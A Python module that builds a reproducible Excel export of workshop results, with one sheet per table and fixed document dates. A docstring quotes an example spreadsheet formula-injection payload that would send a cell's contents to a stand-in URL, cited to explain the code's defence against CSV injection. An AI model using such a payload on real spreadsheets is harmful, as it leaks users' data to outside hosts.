"""The Excel workbook of an export: the same tables as the CSV files, for people.

One sheet per table with headers in the chosen language, a frozen header row and widths
that fit the text, plus the ranked chart as an image. It must never hold anything the CSV
files do not (no roles below k, no per-person data, no receipt beside a ranking), and never
a creation time: the document properties carry a fixed date.
"""

from __future__ import annotations

import io
import re
import unicodedata
import zipfile
from datetime import datetime
from typing import Any, Final

from core.export_data import ExportData, Format, Rendering
from core.export_tables import (
    Table,
    breakdown_table,
    head_to_head_table,
    is_formula_like,
    notes_table,
    rankings_table,
    receipts_table,
    shares_table,
    tally_table,
)
from core.i18n import t

RESULTS_XLSX: Final = "results.xlsx"
_EPOCH: Final = datetime(2000, 1, 1)
_MAX_WIDTH: Final = 60


def _display_width(value: object) -> int:
    # Wide (CJK) characters take two columns in Excel's default font.
    return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in str(value))


def _cell(value: object, lang: str) -> object:
    if isinstance(value, bool):
        return t("export.header.yes" if value else "export.header.no", lang)
    return value


def put(sheet: Any, row: int, column: int, value: object) -> Any:
    """Write one cell; a text is always stored as a text cell, never as a formula.

    openpyxl turns any string starting with "=" into a formula; a note like
    `=HYPERLINK("https://x/?leak="&A1, "…")` would then become a live link that sends a
    cell out. Setting the type back to string keeps the exact text, and `quotePrefix`
    is the flag Excel sets itself when someone types '=…, so editing the cell later
    does not turn it into a formula either (OWASP CSV injection, also + - @ tab CR).
    """
    cell = sheet.cell(row=row, column=column)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True
    return cell


def _add_table(workbook: Any, title: str, table: Table, lang: str) -> Any:
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    sheet = workbook.create_sheet(title=title[:31])  # Excel's sheet-name limit
    for column, header in enumerate(table.headers, start=1):
        put(sheet, 1, column, header)
    for row_no, row in enumerate(table.rows, start=2):
        for column, value in enumerate(row, start=1):
            put(sheet, row_no, column, _cell(value, lang))
    header_fill = PatternFill("solid", fgColor="EEF3F8")
    for cell in sheet[1]:
        cell.font = Font(bold=True)
        cell.fill = header_fill
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    sheet.freeze_panes = "A2"
    for index, header in enumerate(table.headers, start=1):
        widest = max(
            [_display_width(header)]
            + [_display_width(_cell(r[index - 1], lang)) for r in table.rows]
        )
        sheet.column_dimensions[get_column_letter(index)].width = min(_MAX_WIDTH, widest + 2)
    return sheet


def _summary_table(data: ExportData, lang: str) -> Table:
    rows: list[tuple[str | int | bool, ...]] = []
    for q in data.questions:
        rows += [
            (q.position + 1, q.text.get(lang), t("export.notes.themes", lang), th)
            for th in q.themes
        ]
        rows += [
            (q.position + 1, q.text.get(lang), t("export.notes.summary", lang), p)
            for p in q.summary_points
        ]
    return Table(
        ("question", "question_text", "kind", "text"),
        (
            t("export.header.question_no", lang),
            t("export.header.question", lang),
            t("export.header.kind", lang),
            t("export.header.text", lang),
        ),
        tuple(rows),
    )


def build_xlsx(data: ExportData, lang: str, chart_png: bytes) -> bytes:
    """The workbook as bytes: Chart, All counting methods, Ballots, Notes, Summaries,
    By role, Receipts."""
    from openpyxl import Workbook
    from openpyxl.drawing.image import Image

    workbook = Workbook()
    chart_sheet = workbook.active
    chart_sheet.title = t("export.sheet.chart", lang)[:31]
    put(chart_sheet, 1, 1, f"{t('export.report_title', lang)}: {data.workshop.name}")
    image = Image(io.BytesIO(chart_png))
    chart_sheet.add_image(image, "A3")
    _add_table(workbook, t("export.sheet.shares", lang), shares_table(data, lang), lang)
    _add_table(workbook, t("export.sheet.tally", lang), tally_table(data, lang), lang)
    _add_table(workbook, t("export.sheet.head_to_head", lang), head_to_head_table(data, lang), lang)
    _add_table(workbook, t("export.sheet.rankings", lang), rankings_table(data, lang), lang)
    _add_table(workbook, t("export.sheet.notes", lang), notes_table(data, lang), lang)
    _add_table(workbook, t("export.sheet.summary", lang), _summary_table(data, lang), lang)
    if data.breakdown.groups:
        _add_table(workbook, t("export.sheet.breakdown", lang), breakdown_table(data, lang), lang)
    _add_table(workbook, t("export.sheet.receipts", lang), receipts_table(data, lang), lang)
    workbook.properties.creator = "Beidui"
    workbook.properties.created = _EPOCH
    workbook.properties.modified = _EPOCH
    buffer = io.BytesIO()
    workbook.save(buffer)
    return reproducible_zip(buffer.getvalue())


_MODIFIED: Final = re.compile(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)")
_ZIP_EPOCH: Final = (1980, 1, 1, 0, 0, 0)


def reproducible_zip(xlsx: bytes) -> bytes:
    """The same workbook with no trace of when it was written, so two exports of the same
    data are byte-identical: openpyxl stamps `dcterms:modified` with the current time
    whatever the properties say, and zip entries with the current time too."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx)) as source,
        zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = _MODIFIED.sub(rb"\g<1>2000-01-01T00:00:00Z\g<2>", content)
            fixed = zipfile.ZipInfo(info.filename, date_time=_ZIP_EPOCH)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            fixed.external_attr = 0o644 << 16
            target.writestr(fixed, content)
    return out.getvalue()


def files(r: Rendering) -> dict[str, bytes]:
    """The Excel format of a bundle, with the ranked chart (see `core.export_formats`)."""
    return {RESULTS_XLSX: build_xlsx(r.data, r.lang, r.chart)}


EXPORT_FORMAT = Format("xlsx", 0.4, files)
